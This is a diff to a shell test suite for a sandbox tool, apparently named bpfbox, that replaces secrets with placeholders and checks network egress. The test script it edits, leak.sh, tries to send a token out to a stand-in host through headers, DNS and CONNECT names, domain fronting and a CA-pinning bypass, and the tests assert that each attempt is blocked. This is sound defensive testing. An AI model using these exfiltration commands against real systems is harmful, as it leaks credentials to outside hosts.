@@ -64,7 +64,7 @@ box() {
 	audit=$1
 	shift
 	_b0=$(date +%s%N)
-	BPFBOX_UPSTREAM_CA="$TMPD/up-ca.crt" "$BPFBOX" run --no-daemon --audit "$audit" -w "$WS" \
+	BPFBOX_UPSTREAM_CA="${UPCA:-$TMPD/up-ca.crt}" "$BPFBOX" run --no-daemon --audit "$audit" -w "$WS" \
 		--net-resolver $SRV --timeout 60 $RULES "$@"
 	_brc=$?
 	echo "# box $(basename "$audit"): $((($(date +%s%N) - _b0) / 1000000)) ms" >&3
@@ -122,6 +122,8 @@ env -u HTTP_PROXY -u http_proxy curl -sS --max-time 10 -H "X-K: $TOKEN" http://o
 curl -sS --max-time 10 "https://$TOKEN.other.test/"; echo "connect rc=$?"
 env -u HTTPS_PROXY -u https_proxy getent hosts "x.$TOKEN.other.test"; echo "dns rc=$?"
 curl -sS --max-time 10 https://other.test/ --cacert /dev/null -k -o /dev/null -w 'control %{http_code}\n'
+curl -sS --max-time 10 -H 'Host: other.test' https://api.test/; echo "fronted rc=$?"
+curl -sS --max-time 10 --cacert /etc/ssl/certs/ca-certificates.crt https://api.test/; echo "pinned rc=$?"
 EOF
 B="$TMPD/b.jsonl"
 box "$B" --secret TOKEN@api.test -- sh leak.sh >"$TMPD/out" 2>"$TMPD/err"
@@ -139,19 +141,39 @@ check_events "$B" "any(e['type'] == 'net.deny' and e['protocol'] == 'dns' and 's
 	"secrets: the placeholder in a DNS name is refused by the resolver"
 check_events "$B" "any(e['type'] == 'net.deny' and e['protocol'] == 'proxy' and 'secret TOKEN' in e['reason'] for e in net)" \
 	"secrets: the placeholder in a CONNECT name is refused by the proxy"
+expect_grep 'denied \(a request for another host on this connection\)' "$TMPD/out" \
+	"secrets: a terminated connection refuses a request for another host (403)"
+if grep -q '^pinned rc=0' "$TMPD/out"; then
+	fail "secrets: a client that trusts only the system bundle reached the secret's host"
+else
+	ok "secrets: a client that trusts only the system bundle fails closed"
+fi
+check_events "$B" "any(e['type'] == 'net.deny' and e['name'] == 'api.test' and 'refused the session CA' in e['reason'] for e in net)" \
+	"secrets: the refused session CA is a net.deny"
 never_value "$B" "the leak session's audit stream"
 
 # 3. Bad input: one line, exit 125, nothing ran.
 printf 'file-value\n' >"$TMPD/k"
 # A secret named like a variable the environment passes (env_pass.h): the
 # placeholder, never the caller's value.
-PIP_INDEX_URL="https://x.test/$TOKEN/simple" box "$TMPD/c.jsonl" --secret PIP_INDEX_URL@api.test \
-	--secret 'K=file:'"$TMPD"'/k@api.test' -- sh -c 'echo "$K"; env | grep ^PIP_INDEX_URL=' \
+# bpfbox verifies the server with another CA: the request never leaves.
+openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMPD/other.key" -out "$TMPD/other-ca.crt" \
+	-days 1 -subj /CN=another-ca 2>/dev/null
+UPCA="$TMPD/other-ca.crt" PIP_INDEX_URL="https://x.test/$TOKEN/simple" box "$TMPD/c.jsonl" \
+	--secret PIP_INDEX_URL@api.test --secret 'K=file:'"$TMPD"'/k@api.test' -- \
+	sh -c 'echo "$K"; env | grep ^PIP_INDEX_URL=; curl -sS --max-time 10 -H "X-K: $K" https://api.test/k' \
 	>"$TMPD/out" 2>"$TMPD/err"
 expect_grep '^bpfbox-secret-K-[0-9a-f]{32}$' "$TMPD/out" "secrets: NAME=file:PATH gives the session a placeholder"
 expect_grep '^PIP_INDEX_URL=bpfbox-secret-PIP_INDEX_URL-[0-9a-f]{32}$' "$TMPD/out" \
 	"secrets: a passed variable given as a secret is its placeholder"
 never_value "$TMPD/out" "a file secret's session"
+check_events "$TMPD/c.jsonl" "any(e['type'] == 'net.deny' and e['name'] == 'api.test' and e['reason'].startswith('upstream TLS') for e in net)" \
+	"secrets: a server that fails verification is a net.deny"
+if grep -q 'auth api.test.*file-value' "$TMPD/srv.log" || grep -q 'hello from api.test' "$TMPD/out"; then
+	fail "secrets: a request went to a server that failed verification"
+else
+	ok "secrets: nothing reaches a server that fails verification"
+fi
 if grep -q file-value "$TMPD/out"; then
 	fail "secrets: a file secret's value reached the session"
 else
